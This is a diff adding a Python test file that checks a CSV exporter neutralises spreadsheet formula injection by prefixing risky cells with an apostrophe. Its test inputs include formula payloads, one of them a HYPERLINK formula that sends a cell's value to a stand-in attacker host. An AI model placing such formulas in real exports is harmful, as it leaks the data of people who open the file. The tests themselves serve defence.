@@ -1,0 +1,71 @@
+"""CSV that a spreadsheet does not run, and that reads back as what it was."""
+
+from __future__ import annotations
+
+import csv
+import io
+from datetime import UTC, datetime
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from worker.deliver.csv import FORMULA, to_header, to_lines
+
+COLUMNS = {
+    "id": "BIGINT",
+    "title": "VARCHAR",
+    "lat": "DOUBLE",
+    "at": "TIMESTAMPTZ",
+    "is_new": "BOOLEAN",
+    "names": "JSON",
+}
+
+
+def read_back(body: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(body.decode(), newline="")))
+
+
+def written(title: str) -> str:
+    [[cell]] = read_back(to_lines([{"title": title}], {"title": "VARCHAR"}))
+    return cell
+
+
+@pytest.mark.parametrize(
+    "title",
+    [
+        "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1", "\ufeff=1", "\u00a0=1", ";=1", "\n=1", "\uff1d1+1",
+        "'=1", "''@x", "\tx", "- he said", '=HYPERLINK("http://evil.test/?"&A1,"open")',
+    ],
+)  # fmt: skip
+def test_a_text_that_a_spreadsheet_would_run_gets_an_apostrophe_and_nothing_else(title: str) -> None:
+    assert written(title) == f"'{title}"
+
+
+@pytest.mark.parametrize("title", ["Bridge reopens", "a=b", "3-2", "'tis", "it's -5 °C", "", '"quoted", and\nbroken'])
+def test_any_other_text_stays_as_it_is(title: str) -> None:
+    assert written(title) == title
+
+
+@given(st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\0")))
+def test_taking_one_apostrophe_off_gives_back_what_was_there(title: str) -> None:
+    cell = written(title)
+    assert (cell[1:] if cell.startswith("'") and FORMULA.match(cell) else cell) == title
+    assert not cell.lstrip("\ufeff \u00a0").startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+def test_numbers_times_and_lists_are_written_as_programs_read_them() -> None:
+    row = {
+        "id": 7,
+        "title": None,
+        "lat": -33.9,
+        "at": datetime(2026, 3, 1, 8, tzinfo=UTC),
+        "is_new": True,
+        "names": ["Ann; Bo", "=x"],
+    }
+    body = to_header(COLUMNS) + to_lines([row], COLUMNS)
+    assert read_back(body) == [
+        list(COLUMNS),
+        ["7", "", "-33.9", "2026-03-01T08:00:00Z", "true", '["Ann; Bo", "=x"]'],
+    ]
+    assert body.endswith(b"\r\n")
